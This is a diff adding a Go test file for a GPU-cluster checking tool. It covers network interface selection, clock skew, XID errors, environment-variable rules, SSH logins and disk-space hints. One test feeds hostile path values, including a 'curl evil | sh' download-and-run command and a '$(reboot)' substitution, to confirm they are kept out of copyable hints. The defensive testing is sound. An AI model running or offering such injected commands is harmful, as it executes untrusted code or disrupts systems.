@@ -1,0 +1,357 @@
+package check
+
+import (
+	"encoding/json"
+	"math"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/dsbuild/dsbuild/agent"
+	"github.com/dsbuild/dsbuild/fleet/report"
+	"github.com/dsbuild/dsbuild/node"
+)
+
+// The values of NCCL_SOCKET_IFNAME are those of NCCL's documentation (Environment Variables); gloo
+// compares whole names.
+func TestMatchesInterface(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct {
+		variable, value string
+		chosen          []string
+	}{
+		{"NCCL_SOCKET_IFNAME", "eth", []string{"eth0", "eth1"}},
+		{"NCCL_SOCKET_IFNAME", "eth1", []string{"eth1"}},
+		{"NCCL_SOCKET_IFNAME", "eth1,ib", []string{"eth1", "ib0"}},
+		{"NCCL_SOCKET_IFNAME", "=eth", nil},
+		{"NCCL_SOCKET_IFNAME", "=eth0,ib0", []string{"eth0", "ib0"}},
+		{"NCCL_SOCKET_IFNAME", "^eth", []string{"ib0", "docker0"}},
+		{"NCCL_SOCKET_IFNAME", "^docker,lo", []string{"eth0", "eth1", "ib0"}},
+		{"NCCL_SOCKET_IFNAME", "^=eth0", []string{"eth1", "ib0", "docker0"}},
+		{"NCCL_SOCKET_IFNAME", "lo", []string{"lo"}},
+		{"GLOO_SOCKET_IFNAME", "eth", nil},
+		{"GLOO_SOCKET_IFNAME", "eth0", []string{"eth0"}},
+		{"GLOO_SOCKET_IFNAME", "eth0,ib0", []string{"eth0", "ib0"}},
+		{"GLOO_SOCKET_IFNAME", "=eth0", nil},
+		{"GLOO_SOCKET_IFNAME", "^eth0", nil},
+	} {
+		var chosen []string
+		for _, name := range []string{"lo", "eth0", "eth1", "ib0", "docker0"} {
+			if matchesInterface(c.variable, c.value, name) {
+				chosen = append(chosen, name)
+			}
+		}
+		if !slices.Equal(chosen, c.chosen) {
+			t.Errorf("%s=%s chooses %q, want %q", c.variable, c.value, chosen, c.chosen)
+		}
+	}
+}
+
+// A job uses IPv4 where a name has such an address, else IPv6; each address counts once.
+func TestPreferIPv4(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct{ all, want []string }{
+		{nil, nil},
+		{[]string{"fe80::1", "10.0.0.2", "10.0.0.1", "10.0.0.2"}, []string{"10.0.0.1", "10.0.0.2"}},
+		{[]string{"fd00::2", "fd00::1", "fd00::2"}, []string{"fd00::1", "fd00::2"}},
+	} {
+		before := slices.Clone(c.all)
+		if got := preferIPv4(c.all); !slices.Equal(got, c.want) || !slices.Equal(before, c.all) {
+			t.Errorf("%q: %q, want %q; the list is %q now", before, got, c.want, c.all)
+		}
+	}
+	for address, want := range map[string]bool{"127.0.0.1": true, "127.0.1.1": true, "::1": true, "::ffff:127.0.0.1": true, "10.0.0.1": false, "localhost": false, "": false, "127.0.0.1.example": false} {
+		if isLoopback(address) != want {
+			t.Errorf("isLoopback(%q) is %v", address, !want)
+		}
+	}
+}
+
+// CUDA stops at the first device that it does not know, such as -1.
+func TestVisibleGPUs(t *testing.T) {
+	t.Parallel()
+	for value, want := range map[string]int{"": -1, "0": 1, "0,1,2": 3, " 2 , 1": 2, "0,-1,1": 1, "-1": 0, "GPU-4f0e,GPU-81aa": 2, "MIG-7c": 1} {
+		m := ready(1).members[0]
+		(*m.seen.Variables.OK)["CUDA_VISIBLE_DEVICES"] = value
+		if got := m.visibleGPUs(); got != want {
+			t.Errorf("%q leaves %d, want %d", value, got, want)
+		}
+	}
+	m := ready(1).members[0]
+	if got := m.visibleGPUs(); got != -1 {
+		t.Errorf("a variable that is not set leaves %d", got)
+	}
+	m.seen.Variables = part[map[string]string]{Error: "no permission"}
+	if got := m.visibleGPUs(); got != -1 {
+		t.Errorf("unknown variables leave %d", got)
+	}
+}
+
+// A node may send any time. The report states it in at most twelve digits, and the sentence is readable.
+func TestSkewOfAnyTime(t *testing.T) {
+	t.Parallel()
+	const now = 1.7e9
+	for _, c := range []struct {
+		theirs float64
+		says   string
+	}{
+		{now + 3, "3.0s ahead of"},
+		{now - 3, "3.0s behind"},
+		{now - 90, "1m30s behind"},
+		{now + 49*3600, "2 days ahead of"},
+		{0, "19675 days behind"},
+		{math.MaxFloat64, "2913221 days ahead of"},
+		{-math.MaxFloat64, "2952572 days behind"},
+		{math.Inf(1), "2913221 days ahead of"},
+	} {
+		s := newSkew(c.theirs, 0.01, now)
+		if got := describeSkew(s.Seconds); got != c.says {
+			t.Errorf("%g: %q, want %q", c.theirs, got, c.says)
+		}
+		if text, err := json.Marshal(s); err != nil || len(text) > 60 {
+			t.Errorf("%g: %s, %v", c.theirs, text, err)
+		}
+	}
+}
+
+// Two clocks do not make a majority: each is compared with this machine's.
+func TestTwoWrongClocks(t *testing.T) {
+	t.Parallel()
+	r := ready(2)
+	*r.members[0].skew, *r.members[1].skew = Skew{60, 0.01}, Skew{60, 0.01}
+	r.judgeClocks()
+	if got, want := r.said(), "n1 error: its clock is 1m00s ahead of this machine's clock (± 0.0s)\nn2 error: its clock is 1m00s ahead of this machine's clock (± 0.0s)"; got != want {
+		t.Errorf("got\n%s\nwant\n%s", got, want)
+	}
+	r = ready(3)
+	*r.members[1].skew = Skew{10, 30}
+	r.members[2].skew = nil
+	if r.judgeClocks(); r.said() != "" {
+		t.Errorf("an answer that took a minute proves nothing: %s", r.said())
+	}
+}
+
+// A call's failure is a pair of an index and words; anything else is refused, also if a node sends it.
+func TestUnheardIsAPair(t *testing.T) {
+	t.Parallel()
+	for text, want := range map[string]bool{
+		`[2, "no answer"]`: true, `[2]`: false, `[2, "a", "b"]`: false, `["2", "a"]`: false, `[2.5, "a"]`: false, `[2, 3]`: false, `{"at": 2}`: false, `null`: false, `[99999999999999999999, "a"]`: false,
+	} {
+		var u unheard
+		if err := json.Unmarshal([]byte(text), &u); (err == nil) != want {
+			t.Errorf("%s: %v", text, err)
+		} else if want && (u.at != 2 || u.why != "no answer") {
+			t.Errorf("%s: %+v", text, u)
+		}
+	}
+}
+
+// One node without an answer, without words or with words of its own has a reason in the report; a
+// value has none.
+func TestFailureReasons(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct{ sent, reason string }{
+		{`{"ok": 1}`, ""},
+		{`{"ok": null}`, "no answer"},
+		{`{}`, "no answer"},
+		{`{"hung": true}`, "no answer within 20s"},
+		{`{"ok": 1, "hung": true}`, "no answer within 20s"},
+		{`{"error": "Permission denied"}`, "the node says: Permission denied"},
+	} {
+		var p part[int]
+		if err := json.Unmarshal([]byte(c.sent), &p); err != nil {
+			t.Fatal(err)
+		}
+		if got := p.failureReason(); got != c.reason {
+			t.Errorf("%s: %q, want %q", c.sent, got, c.reason)
+		}
+	}
+}
+
+// XIDs are counted by GPU and number. A line that only looks like one is left out, and a log that
+// cannot be read is a warning, not silence.
+func TestXIDs(t *testing.T) {
+	t.Parallel()
+	r := ready(3)
+	lines := []string{
+		"[  1.0] NVRM: Xid (PCI:0000:07:00): 79, GPU has fallen off the bus.",
+		"[  2.0] NVRM: Xid (0000:07:00): 79, again, in the form of old drivers",
+		"[  3.0] NVRM: Xid (PCI:0000:0f:00): 79, another GPU",
+		"[  4.0] NVRM: Xid (PCI:0000:07:00): 13, Graphics Exception",
+		"[  5.0] NVRM: Xid (PCI:0000:07:00): , no number",
+		"[  6.0] a program wrote Xid: 79",
+		"[  7.0] NVRM: Xid (PCI:0000:07:00): 99999999999999999999999, too large",
+	}
+	r.members[0].seen.Devices = map[string]part[told]{"xid": known(told{0, lines})}
+	r.members[1].seen.Devices = map[string]part[told]{"xid": known(told{1, []string{"dmesg: read kernel buffer failed: Operation not permitted"}})}
+	for _, m := range r.members {
+		m.checkXIDs()
+	}
+	got := r.said()
+	for _, want := range []string{
+		"n1 error: GPU 0000:07:00: XID 79, 2 times since the node was started",
+		"n1 error: GPU 0000:0f:00: XID 79, once since the node was started",
+		"n1 warning: GPU 0000:07:00: XID 13, once",
+		"n2 warning: the kernel's log is not readable: dsbuild did not check XID errors of the GPUs",
+	} {
+		if !strings.Contains(got+"\n", want+"\n") {
+			t.Errorf("%q is missing in\n%s", want, got)
+		}
+	}
+	if strings.Contains(got, "n3") || strings.Count(got, "\n") > 4 {
+		t.Error(got)
+	}
+}
+
+// NVIDIA's tools are judged by their words first, then by their status.
+func TestJudgeTools(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct {
+		name string
+		got  map[string]part[told]
+		want string
+	}{
+		{"neither ran", nil, ""},
+		{"both pass", map[string]part[told]{"dcgmi": known(told{0, []string{"| Deployment | Pass |"}}), "nccl-tests": known(told{0, nil})}, ""},
+		{"a failure, though the status is 0", map[string]part[told]{"dcgmi": known(told{0, []string{"| Memory | Fail |"}})}, "n1 error: dcgmi: Memory | Fail"},
+		{"a wrong sum", map[string]part[told]{"nccl-tests": known(told{1, []string{"# Out of bounds values : 3 FAILED"}})}, "n1 error: nccl-tests: # Out of bounds values : 3 FAILED"},
+		{"it does not start", map[string]part[told]{"nccl-tests": known(told{127, []string{"libnccl.so.2: cannot open shared object file"}})}, "n1 warning: dsbuild could not run nccl-tests: libnccl.so.2: cannot open shared object file"},
+		{"it says nothing", map[string]part[told]{"dcgmi": known(told{3, nil})}, "n1 warning: dsbuild could not run dcgmi: exit status 3"},
+		{"it hangs", map[string]part[told]{"dcgmi": {Hung: true}}, "n1 warning: dcgmi: no answer within 20s"},
+	} {
+		r := ready(1)
+		if r.members[0].judgeTools(c.got); r.said() != c.want {
+			t.Errorf("%s: got %q, want %q", c.name, r.said(), c.want)
+		}
+	}
+}
+
+// A team's count of GPUs is compared with the inventory where that has slots, else with most nodes; GPUs
+// that Slurm withholds are not missing.
+func TestCountDevices(t *testing.T) {
+	t.Parallel()
+	r := ready(5)
+	for i, m := range r.members {
+		m.facts.GPUs = make([]node.GPU, []int{8, 8, 4, 0, 8}[i])
+	}
+	r.members[2].Host.Slots = 2
+	r.members[3].facts.GPUsWithheld = true
+	r.members[4].Host.Slots = 8
+	counts := groupByValue(r.members, func(m *member) (string, bool) { return "8", m.Host.Slots == 0 && !m.facts.GPUsWithheld })
+	for _, m := range r.members {
+		m.countDevices(counts, 5)
+	}
+	want := "n3 warning: 4 GPUs, but slots is only 2 in the inventory\n" +
+		"n4 warning: Slurm hides its GPUs from a job that requested none: dsbuild did not check them"
+	if got := r.said(); got != want {
+		t.Errorf("got\n%s\nwant\n%s", got, want)
+	}
+}
+
+// Each rule about a variable names it with its value. A harmless value has no finding.
+func TestVariableRules(t *testing.T) {
+	t.Parallel()
+	bad := map[string]string{
+		"MASTER_ADDR": "127.0.0.1", "RANK": "0", "LOCAL_RANK": "0", "GROUP_RANK": "1", "NODE_RANK": "1", "WORLD_SIZE": "8", "GLOO_SOCKET_IFNAME": "^docker", "CUDA_VISIBLE_DEVICES": "NoDevFiles",
+		"NCCL_P2P_DISABLE": "1", "NCCL_SHM_DISABLE": "1", "NCCL_IB_DISABLE": "1", "NCCL_DEBUG": "INFO", "CUDA_LAUNCH_BLOCKING": "1", "TORCH_DISTRIBUTED_DEBUG": "DETAIL", "NCCL_ASYNC_ERROR_HANDLING": "1", "PYTHONHOME": "/opt/python", "LD_PRELOAD": "/lib/x.so",
+	}
+	good := map[string]string{
+		"MASTER_ADDR": "10.0.0.1", "GLOO_SOCKET_IFNAME": "eth0", "CUDA_VISIBLE_DEVICES": "0,1", "NCCL_P2P_DISABLE": "0", "NCCL_SHM_DISABLE": "0", "NCCL_IB_DISABLE": "0", "NCCL_DEBUG": "WARN", "CUDA_LAUNCH_BLOCKING": "0", "TORCH_DISTRIBUTED_DEBUG": "OFF", "LD_PRELOAD": "",
+	}
+	for _, rule := range variableRules() {
+		value, ok := bad[rule.name]
+		if !ok {
+			t.Errorf("%s has no bad value here", rule.name)
+		}
+		r := ready(1)
+		(*r.members[0].seen.Variables.OK)[rule.name] = value
+		r.checkVariables(t.Context())
+		if want := "n1 " + string(rule.level) + ": " + rule.name + "=" + value + ": " + rule.why; r.said() != want {
+			t.Errorf("got %q, want %q", r.said(), want)
+		}
+		if value, ok := good[rule.name]; ok {
+			r = ready(1)
+			(*r.members[0].seen.Variables.OK)[rule.name] = value
+			if r.checkVariables(t.Context()); r.said() != "" {
+				t.Errorf("%s=%s: %q", rule.name, value, r.said())
+			}
+		}
+	}
+}
+
+// A node whose variables dsbuild could not read has an error, and the others are compared without it.
+func TestUnreadableVariables(t *testing.T) {
+	t.Parallel()
+	r := ready(4)
+	for _, m := range r.members[:3] {
+		(*m.seen.Variables.OK)["NCCL_ALGO"] = "Ring"
+	}
+	r.members[3].seen.Variables = part[map[string]string]{Error: "Input/output error"}
+	r.checkVariables(t.Context())
+	if got, want := r.said(), "n4 error: dsbuild could not read its variables: the node says: Input/output error"; got != want {
+		t.Errorf("got %q, want %q", got, want)
+	}
+}
+
+// The hint about a full folder holds its path only where that is a plain one: a user may copy it.
+func TestRoomOfAHostilePath(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct{ path, try string }{
+		{"/scratch/tmp", "free space: df -h /scratch/tmp"},
+		{"/tmp; curl evil | sh", "free space: df -h FOLDER"},
+		{"$(reboot)", "free space: df -h FOLDER"},
+		{"/tmp\x1b[2J", "free space: df -h FOLDER"},
+	} {
+		m := ready(1).members[0]
+		m.judgeRoom(Disk, "TMPDIR", room{Path: c.path, Free: 1, Inodes: -1}, 1<<30)
+		if len(m.findings) != 1 || m.findings[0].Hint != c.try || strings.ContainsRune(m.findings[0].Text, '\x1b') {
+			t.Errorf("%q: %+v", c.path, m.findings)
+		}
+	}
+}
+
+// The logins of a check name the node that cannot be entered. Words about nodes that do not exist count
+// for nothing.
+func TestSSHOfALyingMaster(t *testing.T) {
+	t.Parallel()
+	r := ready(2)
+	got := loggedIn{}
+	if err := json.Unmarshal([]byte(`{"pdsh": true, "failed": [[1, "Permission denied"], [7, "x"], [-1, "y"]]}`), &got); err != nil {
+		t.Fatal(err)
+	}
+	networkChecks{r}.judgeLogins(got)
+	if said := r.said(); said != "n2 error: n1 cannot log in there without a password prompt: the node says: Permission denied" {
+		t.Error(said)
+	}
+	r = ready(2)
+	networkChecks{r}.judgeLogins(loggedIn{})
+	if said := r.said(); said != "n1 error: pdsh is missing; DeepSpeed's launcher starts its processes with it" {
+		t.Error(said)
+	}
+}
+
+// Only nodes that still answer are compared: one that failed before has its own error.
+func TestNodesThatFailedAreNotCompared(t *testing.T) {
+	t.Parallel()
+	r := ready(3)
+	r.members[2].Status, r.members[2].agent = report.Failed, nil
+	r.members[2].facts.Torch = "1.0"
+	r.members[2].seen = survey{}
+	r.checkVersions(t.Context())
+	r.checkVariables(t.Context())
+	addressChecks{r}.checkNames(t.Context())
+	r.checkDisks(t.Context())
+	r.checkPaths(t.Context())
+	if got := r.said(); got != "" {
+		t.Error(got)
+	}
+	for _, m := range r.members {
+		m.Status, m.agent = report.Failed, (*agent.Session)(nil)
+	}
+	r.checkVersions(t.Context())
+	r.judgeClocks()
+	addressChecks{r}.judgeInterfaces()
+	if got := r.said(); got != "" {
+		t.Error(got)
+	}
+}
